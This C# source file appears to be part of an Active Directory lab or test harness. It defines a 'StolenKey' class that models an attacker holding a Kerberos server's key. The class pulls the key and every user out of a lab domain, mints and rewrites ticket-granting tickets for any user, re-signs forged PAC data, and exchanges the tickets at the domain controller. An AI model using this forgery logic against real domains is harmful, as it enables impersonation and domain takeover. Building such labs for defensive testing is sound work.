using System.Net;
using Keyway.ActiveDirectory.KerberosServers;
using Keyway.ActiveDirectory.Ldap;
using Keyway.ActiveDirectory.Locator;
using Keyway.ActiveDirectory.Reading;
using Keyway.Kerberos;
using Keyway.Kerberos.Exchange;
using Keyway.Kerberos.Messages;
using Keyway.Kerberos.Pac;
using Keyway.Kerberos.PartialTickets;

namespace Keyway.Lab.Walk;

/// <summary>A thief who has the Kerberos server's key: mints partial TGTs for anyone, past every rule of the identity server, and takes them to the domain controller.</summary>
public sealed class StolenKey : IDisposable
{
    private readonly KdcEndpoint[] _kdcs;
    private readonly KerberosKey _ticketKey;
    private readonly DomainFacts _domain;
    private readonly IReadOnlyDictionary<string, DirectoryUser> _users;

    private StolenKey(KdcEndpoint[] kdcs, KerberosServerSecret secret, DomainFacts domain, IReadOnlyDictionary<string, DirectoryUser> users)
    {
        _kdcs = kdcs;
        _ticketKey = secret.Key;
        Key = new KerberosServerKey(secret.Id, secret.TicketKeyVersion, secret.Key.Value);
        _domain = domain;
        _users = users;
    }

    public KerberosServerKey Key { get; }

    /// <summary>32 bytes: what must not be found anywhere.</summary>
    public ReadOnlySpan<byte> KeyBytes => _ticketKey.Value;

    /// <summary>Reads key and people as a Domain Admin can.</summary>
    /// <param name="domain">Contoso when null.</param>
    /// <param name="name">Of the Kerberos server.</param>
    public static async Task<StolenKey> StealAsync(Laboratory lab, CancellationToken cancellation, LabDomain? domain = null, string name = KerberosServerNames.DefaultName)
    {
        domain ??= LabDomain.Contoso;
        var address = lab.Record.ControllerAddress(domain);
        var locator = new LocatorOptions
        {
            DnsServer = new IPEndPoint(IPAddress.Parse(address), 53),
            Hosts = [$"{domain.ControllerHost}={address}"],
        };
        var controller = (await new DomainControllerLocator().LocateAsync(domain.DnsName, locator, cancellation)).Value[0];
        var credential = new DomainCredential.Password(domain.AdministratorUpn, lab.Record.DomainAdministratorPassword);
        using var connection = (await DomainConnection.OpenAsync(controller, credential, TlsTrust.File(lab.Folder.AuthorityOf(domain)), null, cancellation)).Value;
        var server = (await new KerberosServerObjects(connection, TimeProvider.System).ReadAsync(name, cancellation)).Value;
        var secret = (await new ReplicatedKeySource(controller, credential, domain.DnsName, TimeProvider.System).ReadAsync(server, cancellation)).Value;

        var users = new Dictionary<string, DirectoryUser>(StringComparer.OrdinalIgnoreCase);
        await foreach (var page in new DirectoryChangeReader(connection).ReadAsync(null, cancellation))
        {
            foreach (var user in page.Value.Users)
                users[user.SamAccountName] = user;
        }

        return new StolenKey(
            [new KdcEndpoint(domain.ControllerHost, controller.Address)],
            secret,
            (await new DirectoryReader(connection).ReadDomainAsync(cancellation)).Value,
            users);
    }

    /// <summary>Mints a partial TGT for anyone.</summary>
    public HeldTicket Mint(string user)
    {
        var person = _users[user];
        return Mint(new PartialTicketRequest(_domain.DnsName, _domain.NetBiosName, person.SamAccountName, person.DisplayName ?? string.Empty,
            person.UserPrincipalName ?? string.Empty, person.Sid));
    }

    /// <summary>Mints one for whatever the thief writes into it.</summary>
    public HeldTicket Mint(PartialTicketRequest request)
    {
        var clientKey = System.Security.Cryptography.RandomNumberGenerator.GetBytes(32);
        using var ticket = new PartialTicketMinter(TimeProvider.System).Mint(Key, request, clientKey).Value;
        return PartialTicket.Open(ticket.AsRep, clientKey).Value;
    }

    /// <summary>Rewrites what stands in the ticket and seals it again with the stolen key.</summary>
    public HeldTicket Rewrite(HeldTicket ticket, Func<EncTicketPart, EncTicketPart> change)
    {
        var sealedPart = ticket.Ticket.EncryptedPart;
        var part = EncTicketPart.Parse(_ticketKey.Decrypt(KeyUsage.Ticket, sealedPart.Cipher).Value).Value;
        var cipher = _ticketKey.Encrypt(KeyUsage.Ticket, change(part).Encode());
        return ticket with { Ticket = ticket.Ticket with { EncryptedPart = sealedPart with { Cipher = cipher } } };
    }

    /// <summary>The SID of anyone.</summary>
    public SecurityIdentifier SidOf(string user) => _users[user].Sid;

    /// <summary>Changes the PAC's buffers and signs it again with the stolen key.</summary>
    public EncTicketPart WithPac(EncTicketPart part, Func<IEnumerable<PacBuffer>, IEnumerable<PacBuffer>> change)
    {
        var pac = PrivilegeAttributeCertificate.Parse(AuthorizationDataElement.FindPac(part.AuthorizationData).Value).Value;
        var buffers = pac.Buffers.Where(buffer => buffer.Type is not (PacBufferType.ServerChecksum or PacBufferType.KdcChecksum));
        var rebuilt = PrivilegeAttributeCertificate.Build([.. change(buffers)], _ticketKey, _ticketKey, (ushort)Key.BranchId);
        return part with { AuthorizationData = [AuthorizationDataElement.ForPac(rebuilt)] };
    }

    /// <summary>Step 6, Exchange, at the real domain controller of the domain that this key was stolen from, wherever the ticket is from.</summary>
    public Task<Errors.Result<FullTicket>> ExchangeAsync(HeldTicket ticket, CancellationToken cancellation) =>
        new FullTicketExchange(new KdcTransport(), TimeProvider.System).ExchangeAsync(ticket, _kdcs, new FullTicketOptions(), cancellation);

    public void Dispose()
    {
        Key.Dispose();
        _ticketKey.Dispose();
    }
}
